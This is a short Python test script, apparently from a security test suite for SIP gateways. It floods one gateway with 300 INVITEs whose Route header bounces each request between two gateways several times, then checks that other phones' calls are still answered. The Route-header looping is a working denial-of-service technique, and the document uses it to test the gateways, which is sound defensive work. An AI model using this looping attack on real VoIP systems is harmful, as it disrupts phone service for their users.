"""One allowed phone's INVITEs go round between both gateways, so that each counts several times."""

import time
from typing import Dict

from attack import GATEWAY_A, ask, try_call
from phones import Answering, Phone, request, sdp, udp
from verdict import control, finish, right

SOURCE = "10.77.1.16"
Answering("10.77.1.2", 5062)
before = try_call(Phone("10.77.1.18", "u", GATEWAY_A[0]), "q@10.77.1.2:5062")
control("before, a call is answered", before and before.code == 200)

route = ", ".join(["<sip:10.77.0.2;lr>", "<sip:10.77.0.1;lr>"] * 3)
attacker = udp(SOURCE, 5060)
attacker.setblocking(False)
codes: Dict[str, int] = {}
for _ in range(300):
    attacker.sendto(
        request(
            "INVITE",
            "sip:q@10.78.0.9:9",
            (SOURCE, 5060),
            body=sdp(SOURCE, 21000),
            headers=[("Route", route)],
        ),
        GATEWAY_A,
    )
    time.sleep(0.01)
    try:
        while True:
            code = attacker.recv(65535).split()[1].decode()
            codes[code] = codes.get(code, 0) + 1
    except BlockingIOError:
        pass
print("300 INVITEs of one phone:", codes, {name: ask("status", name)["calls"] for name in "ab"})

answered = 0
for host in range(19, 30):
    phone = Phone(f"10.77.1.{host}", "u", GATEWAY_A[0])
    final = try_call(phone, "q@10.77.1.2:5062")
    answered += bool(final and final.code == 200)
    if host == 19:
        print("another phone is told:", final and (final.start, final.get("warning")))
right(f"calls of other phones are answered: {answered} of 11", answered == 11)
finish()
